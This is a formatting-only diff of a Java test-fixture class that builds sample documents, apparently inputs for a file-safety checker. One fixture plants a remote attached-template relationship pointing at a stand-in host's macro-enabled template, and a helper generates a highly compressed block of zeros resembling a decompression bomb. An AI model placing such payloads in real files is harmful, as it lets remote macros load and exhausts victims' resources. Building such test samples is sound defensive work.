@@ -126,7 +126,9 @@ public final class SampleFiles {
         return bytes(to -> {
             try (XWPFDocument document = new XWPFDocument()) {
                 document.createParagraph().createRun().setText("Оқыту туралы бұйрық");
-                document.createParagraph().createHyperlinkRun("https://adilet.zan.kz/").setText("adilet");
+                document.createParagraph()
+                        .createHyperlinkRun("https://adilet.zan.kz/")
+                        .setText("adilet");
                 document.write(to);
             }
         });
@@ -187,14 +189,11 @@ public final class SampleFiles {
 
     static byte[] docxWithOutsideTemplate() {
         Map<String, byte[]> parts = parts(docx());
-        parts.put(
-                "word/_rels/settings.xml.rels",
-                """
+        parts.put("word/_rels/settings.xml.rels", """
                 <?xml version="1.0" encoding="UTF-8"?>
                 <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"
                  Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
-                 Target="http://198.51.100.7/template.dotm" TargetMode="External"/></Relationships>"""
-                        .getBytes(StandardCharsets.UTF_8));
+                 Target="http://198.51.100.7/template.dotm" TargetMode="External"/></Relationships>""".getBytes(StandardCharsets.UTF_8));
         return zip(parts);
     }
 
@@ -269,9 +268,11 @@ public final class SampleFiles {
     }
 
     private static void edit(Map<String, byte[]> parts, String part, String from, String to) {
-        parts.computeIfPresent(part, (name, content) -> new String(content, StandardCharsets.UTF_8)
-                .replace(from, to)
-                .getBytes(StandardCharsets.UTF_8));
+        parts.computeIfPresent(
+                part,
+                (name, content) -> new String(content, StandardCharsets.UTF_8)
+                        .replace(from, to)
+                        .getBytes(StandardCharsets.UTF_8));
     }
 
     private static byte[] zip(Map<String, byte[]> parts) {
@@ -288,7 +289,8 @@ public final class SampleFiles {
 
     private static byte[] deflated(int zeros) {
         return bytes(to -> {
-            try (DeflaterOutputStream deflater = new DeflaterOutputStream(to, new Deflater(Deflater.BEST_COMPRESSION))) {
+            try (DeflaterOutputStream deflater =
+                    new DeflaterOutputStream(to, new Deflater(Deflater.BEST_COMPRESSION))) {
                 byte[] piece = new byte[1_000_000];
                 for (int written = 0; written < zeros; written += piece.length) {
                     deflater.write(piece);
